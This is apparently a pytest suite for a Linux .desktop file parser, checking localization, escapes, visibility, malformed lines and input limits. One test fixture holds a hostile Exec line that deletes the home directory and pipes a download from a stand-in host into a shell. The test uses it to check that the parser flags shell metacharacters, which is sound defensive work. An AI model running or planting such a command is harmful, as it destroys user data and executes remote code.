"""The Desktop Entry parser against the spec's rules and hostile files."""

from __future__ import annotations

from appcenter_qt.extract.appstream.desktop import desktop_id_for, parse_desktop, unescape

PATH = "usr/share/applications/org.example.Foo.desktop"


def parse(text: str | bytes, path: str = PATH):
    data = text.encode() if isinstance(text, str) else text
    return parse_desktop(data, path, "deb:foo.deb")


def tags(hints) -> list[str]:
    return sorted(hint.tag for hint in hints)


MINES = """\
# a comment
[Desktop Entry]
Type=Application
Name=Mines
Name[de]=Minen
Name[sr@latin]=Mine
Name[pt_BR]=Minas
Comment = Clear hidden mines
Icon=org.gnome.Mines
Categories=GNOME;GTK;Game;LogicGame;
Keywords=minesweeper;puzzle;
Keywords[de]=Minensuche;Rätsel;
OnlyShowIn=GNOME;Unity;
Exec=gnome-mines

[Desktop Action New]
Name=New Game
Name[de]=Neues Spiel
Icon=other
"""


def test_main_group_only_and_localized_keys() -> None:
    entry, hints = parse(MINES)
    assert hints == []
    assert entry is not None and entry.visible
    assert entry.desktop_id == "org.example.Foo.desktop"
    assert entry.name == {"C": "Mines", "de": "Minen", "sr@latin": "Mine", "pt_BR": "Minas"}
    assert entry.comment == {"C": "Clear hidden mines"}
    assert entry.icon == "org.gnome.Mines"
    assert entry.categories == ("GNOME", "GTK", "Game", "LogicGame")
    assert entry.keywords == {"C": ("minesweeper", "puzzle"), "de": ("Minensuche", "Rätsel")}
    assert entry.only_show_in == ("GNOME", "Unity") and entry.not_show_in == ()


def test_action_group_first_does_not_overwrite() -> None:
    text = "[Desktop Entry]\nName=Real\n[Desktop Action X]\nName=Fake\nType=Link\n"
    entry, _ = parse(text + "Type=Application\n")
    assert entry is not None and entry.name == {"C": "Real"} and entry.type == ""


def test_escapes_and_lists() -> None:
    assert unescape(r"a\sb\nc\td\\e") == "a b\nc\td\\e"
    assert unescape(r"one;two\;three;;four;", list_separator=True) == ["one", "two;three", "four"]
    entry, _ = parse("[Desktop Entry]\nType=Application\nName=Tab\\tName\\s\nKeywords=a\\;b;c\n")
    assert entry is not None and entry.name == {"C": "Tab\tName"}
    assert entry.keywords == {"C": ("a;b", "c")}


def test_visibility_rules() -> None:
    for extra, visible in [
        ("", True),
        ("NoDisplay=true\n", False),
        ("Hidden=true\n", False),
        ("NoDisplay=false\n", True),
    ]:
        entry, _ = parse(f"[Desktop Entry]\nType=Application\nName=X\n{extra}")
        assert entry is not None and entry.visible is visible, extra
    entry, _ = parse("[Desktop Entry]\nType=Link\nName=X\nURL=https://example.org\n")
    assert entry is not None and not entry.visible


def test_desktop_ids() -> None:
    assert desktop_id_for("usr/share/applications/kde4/kcalc.desktop") == "kde4-kcalc.desktop"
    assert desktop_id_for("usr/share/kservices5/foo.desktop") is None
    assert desktop_id_for("usr/share/kglobalaccel/foo.desktop") is None
    entry, hints = parse(MINES, "usr/share/kservices5/foo.desktop")
    assert entry is None and tags(hints) == ["desktop-file-not-in-applications"]


def test_invalid_utf8_rejects_the_file() -> None:
    entry, hints = parse(b"[Desktop Entry]\nName=\xff\xfe bad\nType=Application\n")
    assert entry is None and tags(hints) == ["desktop-invalid-utf8"]
    assert "org.example.Foo.desktop" in hints[0].message


def test_megabyte_line_is_dropped_not_parsed() -> None:
    text = "[Desktop Entry]\nType=Application\nName=" + "A" * 1_000_000 + "\nName[de]=Kurz\n"
    entry, hints = parse(text)
    assert entry is not None and entry.name == {"de": "Kurz"}
    assert tags(hints) == ["desktop-line-too-long"]


def test_markup_and_shell_metacharacters_are_reported_not_trusted() -> None:
    text = (
        "[Desktop Entry]\nType=Application\nName=<b>Bold</b> &amp; <img src=x>\n"
        "Exec=sh -c 'rm -rf ~; curl evil | sh' $(id)\n"
    )
    entry, hints = parse(text)
    assert entry is not None and entry.name == {"C": "<b>Bold</b> &amp; <img src=x>"}
    assert tags(hints) == ["desktop-exec-shell-metacharacters", "desktop-markup-in-name"]


def test_control_characters_are_stripped_and_names_capped() -> None:
    entry, _ = parse(
        "[Desktop Entry]\nType=Application\nName=A\x01B\x1b[31m\nComment=" + "c" * 5000
    )
    assert entry is not None and entry.name == {"C": "AB[31m"}
    assert len(entry.comment["C"]) == 1024


def test_duplicates_and_bad_lines() -> None:
    text = (
        "Name=Outside\n[Desktop Entry]\nName=First\nName=Second\nType=Application\n"
        "garbage line\nName[]=x\nNoDisplay=yes\n[Desktop Entry]\nName=Again\n"
    )
    entry, hints = parse(text)
    assert entry is not None and entry.name == {"C": "First"} and not entry.no_display
    assert tags(hints) == [
        "desktop-bad-boolean",
        "desktop-bad-line",
        "desktop-bad-line",
        "desktop-duplicate-group",
        "desktop-duplicate-key",
        "desktop-key-before-group",
    ]


def test_no_main_group() -> None:
    entry, hints = parse("[Desktop Action x]\nName=Y\n")
    assert entry is None and tags(hints) == ["desktop-no-main-group"]


def test_bom_crlf_and_locale_normalization() -> None:
    entry, _ = parse(
        "\ufeff[Desktop Entry]\r\nType=Application\r\nName=X\r\nName[de_DE.UTF-8]=Y\r\n"
    )
    assert entry is not None and entry.visible and entry.name == {"C": "X", "de_DE": "Y"}
